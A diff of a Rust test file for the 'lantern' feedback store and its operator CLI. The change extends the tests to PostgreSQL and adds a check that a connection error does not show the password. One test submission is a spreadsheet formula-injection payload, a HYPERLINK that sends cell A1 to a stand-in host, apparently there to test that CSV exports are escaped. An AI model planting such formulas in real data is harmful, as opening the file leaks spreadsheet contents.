@@ -1,13 +1,18 @@
-//! The feedback store and the operators' commands for it: submissions outlive imports and
-//! restarts, `lantern feedback …` lists, shows, closes and exports them, and old closed ones
-//! are deleted.
+//! The feedback store and the operators' commands for it, on SQLite and on PostgreSQL:
+//! submissions outlive imports and restarts, `lantern feedback …` lists, shows, closes and
+//! exports them, and old closed ones are deleted.
 
 use std::process::{Command, Output};
 
-use lantern::feedback::{FeedbackStore, Problem, Submission, UtcTime, Which};
+use lantern::feedback::{FeedbackStore, Problem, StoreLocation, Submission, UtcTime, Which};
 use lantern::input::MaxBytes;
 
-use crate::common::{Scratch, seeds_dir};
+use crate::common::{Scratch, feedback_stores, seeds_dir};
+
+async fn open(store: &str) -> FeedbackStore {
+    let location: StoreLocation = store.parse().unwrap();
+    FeedbackStore::open(&location).await.unwrap()
+}
 
 fn report(message: &str) -> Submission {
     Submission::Report {
@@ -29,11 +34,11 @@ fn suggestion() -> Submission {
     }
 }
 
-fn lantern(args: &[&str], scratch: &Scratch) -> Output {
+fn lantern(args: &[&str], store: &str) -> Output {
     Command::new(env!("CARGO_BIN_EXE_lantern"))
         .args(args)
         .arg("--feedback-database")
-        .arg(scratch.feedback_database())
+        .arg(store)
         .env("NO_COLOR", "1")
         .output()
         .unwrap()
@@ -50,13 +55,17 @@ fn stderr(output: &Output) -> String {
 #[tokio::test]
 async fn submissions_outlive_imports_of_either_kind_and_a_reopened_store() {
     let scratch = Scratch::new();
+    for location in feedback_stores(&scratch).await {
+        outlive_imports(&scratch, &location).await;
+    }
+}
+
+async fn outlive_imports(scratch: &Scratch, location: &str) {
     let database = scratch.database();
     lantern::cli::import(&seeds_dir(), &database, MaxBytes::default())
         .await
         .unwrap();
-    let store = FeedbackStore::open(&scratch.feedback_database())
-        .await
-        .unwrap();
+    let store = open(location).await;
     let first = store.submit(&report("The number is wrong")).await.unwrap();
     let second = store.submit(&suggestion()).await.unwrap();
     let secret = *store.form_secret().bytes();
@@ -66,6 +75,7 @@ async fn submissions_outlive_imports_of_either_kind_and_a_reopened_store() {
         .await
         .unwrap();
     let package = scratch.dir.path().join("package");
+    let _ = std::fs::remove_dir_all(&package);
     lantern::cli::export_database(&database, lantern::export::ExportFormat::Hsds, &package)
         .await
         .unwrap();
@@ -73,9 +83,7 @@ async fn submissions_outlive_imports_of_either_kind_and_a_reopened_store() {
         .await
         .unwrap();
 
-    let store = FeedbackStore::open(&scratch.feedback_database())
-        .await
-        .unwrap();
+    let store = open(location).await;
     let kept = store.list(Which::All).await.unwrap();
     let ids: Vec<_> = kept.iter().map(|f| f.id).collect();
     assert_eq!(ids, [first, second]);
@@ -91,9 +99,12 @@ async fn submissions_outlive_imports_of_either_kind_and_a_reopened_store() {
 #[tokio::test]
 async fn the_store_keeps_the_hour_and_nothing_finer() {
     let scratch = Scratch::new();
-    let store = FeedbackStore::open(&scratch.feedback_database())
-        .await
-        .unwrap();
+    for location in feedback_stores(&scratch).await {
+        hour_and_nothing_finer(&open(&location).await).await;
+    }
+}
+
+async fn hour_and_nothing_finer(store: &FeedbackStore) {
     // 2026-12-07 14:05:09 UTC.
     let id = store
         .submit_at(&report("x"), UtcTime::from_seconds(1_796_652_309))
@@ -107,10 +118,16 @@ async fn the_store_keeps_the_hour_and_nothing_finer() {
     assert!(store.submit(&too_long).await.is_err());
 }
 
-#[test]
-fn an_empty_store_says_so_and_bad_numbers_are_usage_errors() {
+#[tokio::test]
+async fn an_empty_store_says_so_and_bad_numbers_are_usage_errors() {
     let scratch = Scratch::new();
-    let listed = lantern(&["feedback", "list"], &scratch);
+    for location in feedback_stores(&scratch).await {
+        empty_and_bad_numbers(&location);
+    }
+}
+
+fn empty_and_bad_numbers(store: &str) {
+    let listed = lantern(&["feedback", "list"], store);
     assert!(listed.status.success(), "{}", stderr(&listed));
     assert_eq!(stdout(&listed), "no open feedback\n");
 
@@ -124,7 +141,7 @@ fn an_empty_store_says_so_and_bad_numbers_are_usage_errors() {
         &["feedback", "list", "--open", "--all"],
         &["feedback", "list", "--format", "xml"],
     ] {
-        let output = lantern(bad, &scratch);
+        let output = lantern(bad, store);
         assert_eq!(
             output.status.code(),
             Some(2),
@@ -138,9 +155,13 @@ fn an_empty_store_says_so_and_bad_numbers_are_usage_errors() {
 #[tokio::test]
 async fn an_operator_lists_shows_closes_and_exports_feedback() {
     let scratch = Scratch::new();
-    let store = FeedbackStore::open(&scratch.feedback_database())
-        .await
-        .unwrap();
+    for location in feedback_stores(&scratch).await {
+        operator_round(&scratch, &location).await;
+    }
+}
+
+async fn operator_round(scratch: &Scratch, location: &str) {
+    let store = open(location).await;
     let reported = store
         .submit(&report(
             "=HYPERLINK(\"http://x/?\"&A1) the number rings out",
@@ -150,7 +171,7 @@ async fn an_operator_lists_shows_closes_and_exports_feedback() {
     store.submit(&suggestion()).await.unwrap();
     drop(store);
 
-    let listed = stdout(&lantern(&["feedback", "list"], &scratch));
+    let listed = stdout(&lantern(&["feedback", "list"], location));
     assert!(
         listed.contains("report national-human-trafficking-hotline: phone-wrong"),
         "{listed}"
@@ -159,7 +180,7 @@ async fn an_operator_lists_shows_closes_and_exports_feedback() {
 
     let json: serde_json::Value = serde_json::from_str(&stdout(&lantern(
         &["feedback", "list", "--format", "json"],
-        &scratch,
+        location,
     )))
     .unwrap();
     assert_eq!(json[1]["states"], "TX NM");
@@ -174,7 +195,7 @@ async fn an_operator_lists_shows_closes_and_exports_feedback() {
             "--seeds",
             seeds.to_str().unwrap(),
         ],
-        &scratch,
+        location,
     );
     let shown = stdout(&shown);
     // The operator is sent to the line of the entry's seed file.
@@ -201,18 +222,18 @@ async fn an_operator_lists_shows_closes_and_exports_feedback() {
             "--note",
             "Fixed in seeds",
         ],
-        &scratch,
+        location,
     );
     assert!(closed.status.success(), "{}", stderr(&closed));
-    let open = stdout(&lantern(&["feedback", "list"], &scratch));
-    assert!(!open.contains("phone-wrong"), "{open}");
-    let all = stdout(&lantern(&["feedback", "list", "--all"], &scratch));
+    let still_open = stdout(&lantern(&["feedback", "list"], location));
+    assert!(!still_open.contains("phone-wrong"), "{still_open}");
+    let all = stdout(&lantern(&["feedback", "list", "--all"], location));
     assert!(all.contains("closed"), "{all}");
 
     let out = scratch.dir.path().join("exports").join("feedback.csv");
     let exported = lantern(
         &["feedback", "export", "--out", out.to_str().unwrap()],
-        &scratch,
+        location,
     );
     assert!(exported.status.success(), "{}", stderr(&exported));
     let csv = std::fs::read_to_string(&out).unwrap();
@@ -226,9 +247,12 @@ async fn an_operator_lists_shows_closes_and_exports_feedback() {
 #[tokio::test]
 async fn closed_feedback_is_deleted_after_the_retention_period_and_open_feedback_never() {
     let scratch = Scratch::new();
-    let store = FeedbackStore::open(&scratch.feedback_database())
-        .await
-        .unwrap();
+    for location in feedback_stores(&scratch).await {
+        retention(&open(&location).await).await;
+    }
+}
+
+async fn retention(store: &FeedbackStore) {
     let day = |n: i64| UtcTime::from_seconds(1_796_652_309 + n * 86_400);
     let old_closed = store.submit_at(&report("old"), day(0)).await.unwrap();
     let old_open = store
@@ -251,4 +275,34 @@ async fn closed_feedback_is_deleted_after_the_retention_period_and_open_feedback
         .map(|f| f.id)
         .collect();
     assert_eq!(left, [old_open, recent_closed]);
+}
+
+#[test]
+fn a_postgres_store_that_is_down_at_start_is_a_clear_error_without_the_password() {
+    let scratch = Scratch::new();
+    // Port 1 on this machine: nothing listens there, so the connection is refused at once.
+    let down = "postgres://lantern:hunter2@127.0.0.1:1/lantern";
+    let output = Command::new(env!("CARGO_BIN_EXE_lantern"))
+        .args(["serve", "--listen", "127.0.0.1:0", "--database"])
+        .arg(scratch.database())
+        .arg("--seeds")
+        .arg(seeds_dir())
+        .args(["--feedback-database", down])
+        .env("NO_COLOR", "1")
+        .output()
+        .unwrap();
+    let stderr = stderr(&output);
+    assert!(
+        !output.status.success(),
+        "started without its store: {stderr}"
+    );
+    assert!(
+        stderr.contains("cannot open the feedback database at postgres://lantern:"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("127.0.0.1:1/lantern"), "{stderr}");
+    assert!(
+        !stderr.contains("hunter2"),
+        "the password is shown: {stderr}"
+    );
 }
